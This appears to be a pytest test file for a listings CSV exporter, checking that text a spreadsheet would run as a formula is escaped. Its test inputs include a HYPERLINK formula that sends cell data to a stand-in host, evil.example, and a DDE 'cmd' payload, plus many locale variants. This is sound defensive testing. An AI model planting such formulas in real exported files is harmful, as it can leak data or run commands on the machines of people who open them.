"""csv, read back by Python's csv module: RFC 4180, and nothing in it that a spreadsheet would run."""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from listings.exporting.csv_text import neutralised
from listings.exporting.records import COLUMNS
from tests.listings.exporting.records import TEXTS, full_record, record, written

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
RUN = "cmd|' /C calc'!A0"
# Where Excel begins a cell in some locale: at line ends, tabs and semicolons, quotes or not
CELL_STARTS = re.compile(r"[;\t\r\n]")


def rows(*records):
    return list(csv.DictReader(io.StringIO(written("csv", *records).decode("utf-8"), newline="")))


def cell(text):
    return rows(record(title=text))[0]["title"]


def test_the_header_is_the_vocabulary_between_id_and_times():
    (row,) = rows(full_record())
    assert tuple(row) == COLUMNS
    assert list(row)[:3] == ["id", "title", "price_string"]


def test_lines_end_in_cr_lf_and_there_is_no_byte_order_mark():
    file = written("csv", record(title="Haus in Köln"), record())
    assert file.startswith(b"id,")
    assert file.endswith(b"\r\n")
    assert "Haus in Köln" in file.decode("utf-8")


def test_unknown_is_empty_and_values_are_plain():
    (row,) = rows(record(for_sale=True, for_rent=False, price_float=Decimal("1150.500"), count_bedrooms=3.0))
    assert (row["for_sale"], row["for_rent"], row["furnished"]) == ("true", "false", "")
    assert (row["price_float"], row["count_bedrooms"], row["title"]) == ("1150.5", "3", "")
    assert row["updated_at"] == "2026-11-02T08:30:00Z"


def test_numbers_below_zero_stay_numbers():
    (row,) = rows(record(longitude=-1.5491, latitude=-33.8688, price_float=Decimal("-1")))
    assert (float(row["longitude"]), float(row["latitude"]), row["price_float"]) == (-1.5491, -33.8688, "-1")


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+" + RUN,
        "-2+3+" + RUN,
        "@SUM(1+1)*" + RUN,
        "\tx",
        "\rx",
        "\nx",
        "  " + FORMULA,
        '"' + FORMULA,
        "'" + FORMULA,
        " ' \"" + FORMULA,
        "\xa0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＠SUM(1)",
        "-",
        "=",
        "+44 113 496 0000",
    ],
)
def test_text_that_would_be_a_formula_is_marked_as_text(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["A house", "3 - 5 beds", "a=b", "(=1)", "'Larkspur'", "£325,000", "", "  spaced", "info@agent.example"]
)
def test_other_text_is_left_alone(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (f"\t{FORMULA}", f"'\t'{FORMULA}"),
        (f"Nice;{FORMULA}", f"Nice;'{FORMULA}"),
        (f"Nice; {FORMULA}", f"Nice;' {FORMULA}"),
        (f"Nice\n{FORMULA}", f"Nice\n'{FORMULA}"),
        (f"Nice\r\n-{RUN}", f"Nice\r\n'-{RUN}"),
        (f"Nice\t+{RUN}", f"Nice\t'+{RUN}"),
        ("Nice;@SUM(1)", "Nice;'@SUM(1)"),
        ("Has:\n- a garden\n- 2 garages; + a shed", "Has:\n- a garden\n- 2 garages; + a shed"),
    ],
)
def test_formulas_behind_another_locales_separator_are_marked_too(text, safe):
    assert cell(text) == safe


@given(TEXTS)
@example("=")
@example("a\r=1;\t@b\n -c(")
def test_no_text_becomes_a_formula_wherever_a_cell_may_begin(text):
    read = cell(text)
    assert read.replace("'", "") == text.replace("'", "")
    first, *others = CELL_STARTS.split(read)
    assert first.strip("\" '\xa0\ufeff\u3000").lstrip()[:1] not in tuple("=+-@＝＋－＠") or read.startswith("'")
    for other in others:
        bare = other.lstrip("\"' \xa0\ufeff")
        if bare[:1] in tuple("=@＝＠") and bare[:1]:
            assert "'" in other[: len(other) - len(bare)]


@given(st.lists(TEXTS.filter(lambda text: text and "'" not in text), min_size=1))
def test_joined_lists_can_be_taken_apart(items):
    (row,) = rows(record(features=items))
    joined = row["features"].replace("'", "")
    parts = re.split(r"(?<!\\)((?:\\\\)*) \| ", joined)
    whole = [part + slashes for part, slashes in zip(parts[::2], [*parts[1::2], ""], strict=True)]
    assert [re.sub(r"\\([\\|])", r"\1", part) for part in whole] == items


def test_pictures_are_their_addresses():
    (row,) = rows(
        record(image_urls=[{"url": "https://x.example/a|b.jpg", "caption": "c"}, {"url": "https://x.example/2"}])
    )
    assert row["image_urls"] == "https://x.example/a%7Cb.jpg | https://x.example/2"


def test_a_long_text_of_separators_takes_no_longer_than_it_is_long():
    assert len(neutralised("\n" * 300_000 + " " * 300_000 + ";-" * 100_000)) > 800_000
